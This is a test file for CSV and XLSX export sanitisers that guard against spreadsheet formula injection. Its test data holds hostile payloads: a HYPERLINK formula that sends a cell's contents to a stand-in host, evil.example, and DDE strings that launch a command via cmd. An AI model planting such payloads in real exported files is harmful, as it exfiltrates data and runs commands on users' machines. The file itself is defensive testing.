import { csvSafeCell, xlsxValueCell } from '../../src/common/http/csv.js';

describe('csvSafeCell: text a spreadsheet would run as a formula (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A2,"Click")'],
    ["+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-'],
    ['='],
  ])('prefixes %j with a single quote, keeping the rest as it is', (text) => {
    expect(csvSafeCell(text)).toBe(`'${text}`);
  });

  it.each([['MSP du Haut-Allier'], ['Saint-Étienne'], [' =1+1'], ["'=already quoted"], ['2026-11-22'], ['a=b'], ['']])('leaves %j untouched', (text) => {
    expect(csvSafeCell(text)).toBe(text);
  });

  it('never touches a number, a negative one included, nor a boolean', () => {
    expect(csvSafeCell(-12)).toBe(-12);
    expect(csvSafeCell(0)).toBe(0);
    expect(csvSafeCell(1_500_000)).toBe(1_500_000);
    expect(csvSafeCell(true)).toBe(true);
  });

  it('writes null and undefined as an empty cell', () => {
    expect(csvSafeCell(null)).toBe('');
    expect(csvSafeCell(undefined)).toBe('');
  });
});

describe('xlsxValueCell: values, never formulas or hyperlinks', () => {
  it('passes scalars through, a formula-looking string as the same string', () => {
    expect(xlsxValueCell('=1+1')).toBe('=1+1');
    expect(xlsxValueCell(-3)).toBe(-3);
    expect(xlsxValueCell(false)).toBe(false);
    expect(xlsxValueCell(null)).toBeNull();
    expect(xlsxValueCell(undefined)).toBeNull();
    expect(xlsxValueCell(12n)).toBe('12');
  });

  it('writes an object exceljs would make a formula or a hyperlink as its JSON text', () => {
    expect(xlsxValueCell({ formula: 'A1*2' })).toBe('{"formula":"A1*2"}');
    expect(xlsxValueCell({ text: 'x', hyperlink: 'http://evil.example' })).toBe('{"text":"x","hyperlink":"http://evil.example"}');
  });
});
